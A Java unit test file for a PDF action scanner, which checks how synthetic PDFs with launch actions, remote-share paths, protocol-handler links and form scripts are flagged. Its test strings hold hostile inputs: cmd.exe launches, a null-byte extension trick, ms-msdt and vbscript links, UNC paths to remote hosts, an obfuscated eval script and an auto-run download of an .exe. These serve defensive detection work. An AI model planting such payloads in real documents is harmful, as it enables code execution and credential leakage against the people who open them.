package dev.dropgate.inspect.rules.documents.pdf;

import static dev.dropgate.inspect.rules.documents.PdfSamples.pdf;
import static org.assertj.core.api.Assertions.assertThat;

import dev.dropgate.inspect.format.document.LittleEndianBytes;
import dev.dropgate.inspect.rules.documents.DocumentSamples;
import dev.dropgate.inspect.rules.documents.PdfSamples;
import dev.dropgate.model.Finding;
import dev.dropgate.model.ScanResult;
import dev.dropgate.model.Verdict;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What the actions of a PDF lead to, and who starts them. */
class PdfActionScannerTest {
  private static final String LINK = "<</Type/Annot/Subtype/Link/A 4 0 R>>";

  private static void isOnlyLogged(ScanResult judgement, String rule) {
    assertThat(judgement.verdict()).as(judgement.reasons().toString()).isEqualTo(Verdict.CLEAN);
    assertThat(judgement.shadow()).extracting(Finding::rule).containsExactly(rule);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "(next.pdf)",
        "(../other folder/next.pdf)",
        "(.../.../1_1..pdf)",
        "<</Type/Filespec/F(plan.xlsx)>>",
        "<</Type/Filespec/F(plan.xlsx)/UF(plan.xlsx)>>"
      })
  void neighborDocumentOpenedByClickIsOnlyLogged(String target) {
    String launch = "<</S/Launch/F " + target + ">>";
    isOnlyLogged(DocumentSamples.judge("a.pdf", pdf("", LINK, launch)), "pdf-open-action");
    String direct = "<</Subtype/Link/A" + launch + ">>";
    isOnlyLogged(DocumentSamples.judge("a.pdf", pdf("", direct)), "pdf-open-action");
    String bookmark = "<</Title(next)/Parent 2 0 R/A 4 0 R>>";
    isOnlyLogged(DocumentSamples.judge("a.pdf", pdf("", bookmark, launch)), "pdf-open-action");
    for (String catalog : new String[] {"/OpenAction 4 0 R", "/AA<</WC 4 0 R>>", "/X[4 0 R]"}) {
      assertThat(DocumentSamples.judge("a.pdf", pdf(catalog, LINK, launch)).rules())
          .isEqualTo("pdf-launch");
    }
    String page = "<</Type/Page/AA<</O 4 0 R>>>>";
    assertThat(DocumentSamples.judge("a.pdf", pdf("", LINK, launch, page)).rules())
        .isEqualTo("pdf-launch");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/F(cmd.exe)",
        "/F(/c/windows/next.pdf)",
        "/F(C:/next.pdf)",
        "/F(next.docm)",
        "/F(next)",
        "/F(next.exe\\000.pdf)",
        "/F(http://example.org/next.pdf)",
        "/F(next.pdf)/Win<</F(cmd.exe)/P(/c x)>>",
        "/F<</F(next.pdf)/UF(next.exe)>>",
        "/Win<</F(cmd.exe)>>",
        ""
      })
  void aProgramOrADocumentFromElsewhereIsLaunchedByNoClick(String target) {
    String launch = "<</S/Launch" + target + ">>";
    assertThat(DocumentSamples.judge("a.pdf", pdf("", LINK, launch)).rules())
        .isEqualTo("pdf-launch");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "<</S/GoToR/F(\\\\\\\\files.example.org\\\\s\\\\a.pdf)>>|",
        "<</S/GoToR/F(//files.example.org/s/a.pdf)>>|",
        "<</S/GoToE/F<</F(\\\\\\\\203.0.113.7\\\\s)>>>>|",
        "<</S/URI/URI(file://files.example.org/s/a.pdf)>>|",
        "<</S/URI/URI(\\\\\\\\files.example.org\\\\s)>>|",
        "<</S/ImportData/F 5 0 R>>|(\\\\\\\\files.example.org\\\\s)",
        "<</S/SubmitForm/F<</FS/URL/F 5 0 R>>>>|(file:////files.example.org/s)",
        "<</S/Thread/F 5 0 R>>|<</Type/Filespec/UF(\\\\\\\\203.0.113.7\\\\s)>>"
      })
  void findsFileOnAnotherMachineByAnyPath(String action, String more) {
    String other = more == null ? "null" : more;
    assertThat(DocumentSamples.judge("a.pdf", pdf("", LINK, action, other)).rules())
        .contains("pdf-remote-share");
    byte[] opened = pdf("/AA<</O 4 0 R>>", LINK, action, other);
    assertThat(DocumentSamples.judge("a.pdf", opened).rules()).contains("pdf-remote-share");
  }

  @Test
  void aFileOfTheOwnNetworkIsDangerousOnlyIfItOpensByItself() {
    String action = "<</S/GoToR/F(\\\\\\\\host\\\\share\\\\a.pdf)>>";
    isOnlyLogged(DocumentSamples.judge("a.pdf", pdf("", LINK, action)), "pdf-remote-share");
    for (String catalog : new String[] {"/AA<</O 4 0 R>>", "/OpenAction 4 0 R"}) {
      assertThat(DocumentSamples.judge("a.pdf", pdf(catalog, LINK, action)).rules())
          .isEqualTo("pdf-remote-share");
    }
    String page = "<</Type/Page/AA<</O" + action + ">>>>";
    assertThat(DocumentSamples.judge("a.pdf", pdf("", page)).rules()).isEqualTo("pdf-remote-share");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<</S/GoToR/F(a.pdf)>>",
        "<</S/GoToR/F(/c/docs/a.pdf)>>",
        "<</S/URI/URI(https://example.org/x.exe)>>",
        "<</S/URI/URI(//www.example.org/)>>",
        "<</S/URI/URI(mailto:a@example.org)>>",
        "<</S/URI/URI(file:///C:/docs/a.pdf)>>",
        "<</S/URI/URI(searching.example.org)>>"
      })
  void anOrdinaryLinkIsNoFinding(String action) {
    ScanResult judgement = DocumentSamples.judge("a.pdf", pdf("", LINK, action));
    assertThat(judgement).isEqualTo(ScanResult.of(java.util.List.of()));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "ms-msdt:/id PCWDiagnostic /skip force",
        "search-ms:query=a&crumb=location:x",
        "MS-Search:x",
        "file:///C:/Windows/System32/cmd.exe",
        "ms-appinstaller:?source=https://example.org/a.msix",
        "vbscript:x",
        "java script:new ActiveXObject(1)"
      })
  void aLinkThatStartsSomethingIsFound(String address) {
    String action = "<</S/URI/URI(" + address.replace("(", "\\(").replace(")", "\\)") + ")>>";
    assertThat(DocumentSamples.judge("a.pdf", pdf("", LINK, action)).rules())
        .isEqualTo("dangerous-link");
  }

  @Test
  void javascriptLinkIsOnlyLogged() {
    String action = "<</S/URI/URI(javascript:void\\(0\\))>>";
    isOnlyLogged(DocumentSamples.judge("a.pdf", pdf("", LINK, action)), "dangerous-link");
  }

  @Test
  void aDocumentForTheOwnersOfCertificatesIsEncrypted() {
    String encrypt =
        "<</Filter/Adobe.PubSec/SubFilter/adbe.pkcs7.s4/V 2/Length 128/Recipients[<3080>]>>";
    byte[] encrypted = PdfSamples.withTable("/ID[<00><00>]/Encrypt 3 0 R", "", encrypt);
    ScanResult judgement = DocumentSamples.judge("a.pdf", encrypted);
    assertThat(judgement.rules()).isEqualTo("document-encrypted");
    assertThat(judgement.reasons()).contains("certificate");
  }

  @Test
  void aScriptOfAFormInXmlIsReadInOnePartAndInSeveral() throws Exception {
    String calm = "<xdp><event><script contentType='x'>a.rawValue=1</script></event></xdp>";
    String hostile = calm.replace("a.rawValue=1", "eval(unescape('%75'))");
    byte[] one =
        PdfSamples.stream(
            "/Filter/FlateDecode", PdfSamples.deflated(LittleEndianBytes.latin1(calm)));
    isOnlyLogged(
        DocumentSamples.judge("a.pdf", pdf("/AcroForm<</XFA 3 0 R>>", one)), "pdf-xfa-script");
    for (String form : new String[] {"3 0 R", "[(template)3 0 R(data)2 0 R]"}) {
      byte[] part = PdfSamples.stream("", LittleEndianBytes.latin1(hostile));
      assertThat(
              DocumentSamples.judge("a.pdf", pdf("/AcroForm<</XFA " + form + ">>", part)).rules())
          .isEqualTo("pdf-hostile-script");
    }
    byte[] plain =
        PdfSamples.stream("", LittleEndianBytes.latin1("<xdp><field>description</field></xdp>"));
    assertThat(DocumentSamples.judge("a.pdf", pdf("/AcroForm<</XFA 3 0 R>>", plain)).shadow())
        .isEmpty();
  }

  @Test
  void aScriptThatFetchesAProgramIsHostile() {
    String action = "<</S/JavaScript/JS(app.launchURL\\('http://example.org/x.exe', true\\))>>";
    assertThat(DocumentSamples.judge("a.pdf", pdf("/OpenAction 3 0 R", action)).rules())
        .isEqualTo("pdf-hostile-script");
    assertThat(
            DocumentSamples.judge(
                    "a.pdf", pdf("/OpenAction 3 0 R", action.replace("x.exe", "x.html")))
                .rules())
        .isEmpty();
  }
}
